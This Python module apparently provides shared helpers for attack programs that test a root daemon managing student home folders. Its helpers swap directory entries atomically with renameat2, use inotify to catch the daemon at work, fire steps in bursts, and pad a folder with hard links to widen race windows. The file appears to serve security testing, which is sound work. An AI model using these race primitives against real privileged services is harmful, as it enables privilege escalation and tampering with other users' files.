"""What the attack programs need from Linux beyond Python's standard library.

Run by /usr/bin/python3 as an unprivileged student: stdlib only, no project code.
"""

from __future__ import annotations

import argparse
import ctypes
import errno
import os
import select
import stat
import time

libc = ctypes.CDLL(None, use_errno=True)

#: renameat2(2) has no wrapper in Python; its system call number per architecture.
SYS_RENAMEAT2 = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
RENAME_EXCHANGE = 2

IN_ACCESS = 0x001
IN_ATTRIB = 0x004
IN_OPEN = 0x020
IN_CREATE = 0x100
IN_DELETE = 0x200
#: What the daemon does in a home: list it, open files in it, chown or chmod, delete.
DAEMON_AT_WORK = IN_OPEN | IN_ACCESS | IN_ATTRIB | IN_DELETE

#: The errors a racing attacker expects (the name it wanted is gone or is of another kind).
LOST_RACE = frozenset({errno.ENOENT, errno.ENOTDIR, errno.EISDIR, errno.ENOTEMPTY, errno.EEXIST, errno.EINVAL})


def exchange(dir_fd: int, a: str, b: str) -> bool:
    """Swap the entries `a` and `b` (relative to `dir_fd`) atomically; False if one is missing."""
    done = libc.syscall(
        ctypes.c_long(SYS_RENAMEAT2),
        ctypes.c_int(dir_fd),
        a.encode(),
        ctypes.c_int(dir_fd),
        b.encode(),
        ctypes.c_uint(RENAME_EXCHANGE),
    )
    if done == 0:
        return True
    code = ctypes.get_errno()
    if code in LOST_RACE or code in (errno.EACCES, errno.EPERM, errno.EXDEV):
        return False
    raise OSError(code, os.strerror(code), f"{a} <-> {b}")


def open_folder(path: str) -> int | None:
    """An O_PATH descriptor of the folder `path` (never following a final symlink), or None."""
    try:
        return os.open(path, os.O_PATH | os.O_DIRECTORY | os.O_NOFOLLOW | os.O_CLOEXEC)
    except OSError:
        return None


class Watch:
    """inotify on a few folders: tells when someone else works in them."""

    def __init__(self, home: str, student_dir: str) -> None:
        self.fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "inotify_init1")
        self.add(home, DAEMON_AT_WORK)
        self.add(student_dir, DAEMON_AT_WORK | IN_CREATE)  # a new home is made

    def add(self, path: str, mask: int) -> None:
        libc.inotify_add_watch(self.fd, path.encode(), ctypes.c_uint32(mask))

    def wait(self, timeout: float) -> bool:
        """Whether something happened within `timeout` seconds (the events are drained)."""
        ready, _, _ = select.select([self.fd], [], [], timeout)
        if ready:
            self.drain()
        return bool(ready)

    def drain(self) -> None:
        while True:
            try:
                data = os.read(self.fd, 65536)
            except BlockingIOError:
                return
            if not data:
                return


def run_in_bursts(step, watch: Watch, seconds: float, burst: float = 0.1) -> int:
    """Call `step()` as fast as possible for `burst` seconds each time the watched folders see
    work, until `seconds` have passed; returns how many steps ran."""
    steps = 0
    deadline = time.monotonic() + seconds
    print("ready", flush=True)
    while time.monotonic() < deadline:
        if not watch.wait(min(1.0, max(0.0, deadline - time.monotonic()))):
            continue
        end = time.monotonic() + burst
        while time.monotonic() < end:
            step()
            steps += 1
        watch.drain()
    return steps


class Home:
    """The student's home as an attacker sees it: the folder it started in (followed wherever
    root renames it) and the folder its path names now (a new home, once one is made)."""

    def __init__(self, path: str) -> None:
        self.path = path
        self.first = open_folder(path)
        self.current: int | None = None
        self.uses = 0

    def folders(self) -> list[int]:
        """Descriptors of both folders (one, while they are the same); the path is looked up
        again every 32 calls."""
        if self.uses % 32 == 0:
            if self.current is not None:
                os.close(self.current)
            self.current = open_folder(self.path)
            if self.current is not None and self.first is not None and same(self.current, self.first):
                os.close(self.current)
                self.current = None
        self.uses += 1
        return [fd for fd in (self.first, self.current) if fd is not None]


def same(a: int, b: int) -> bool:
    first, second = os.fstat(a), os.fstat(b)
    return (first.st_dev, first.st_ino) == (second.st_dev, second.st_ino)


def pad(fd: int, count: int) -> None:
    """A folder of `count` names (links to one empty file) in the home: erasing it keeps the
    daemon busy for a while, long enough for the attacker to wake up and race what the daemon
    does next."""
    quietly(os.mkdir, "pad", 0o755, dir_fd=fd)
    quietly(os.mknod, "pad/0", stat.S_IFREG | 0o644, dir_fd=fd)
    for number in range(1, count):
        quietly(os.link, "pad/0", f"pad/{number}", src_dir_fd=fd, dst_dir_fd=fd)


def quietly(action, *args, **kwargs) -> None:
    """`action(...)`, ignoring what a lost race raises (the name is gone, taken, or elsewhere)."""
    try:
        action(*args, **kwargs)
    except OSError:
        pass


def racing_attack_arguments() -> argparse.ArgumentParser:
    """The arguments every racing attack takes; each adds its own."""
    parser = argparse.ArgumentParser()
    parser.add_argument("home")
    parser.add_argument("student_dir")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--pad", type=int, default=0, help="files to slow the erase down with")
    return parser
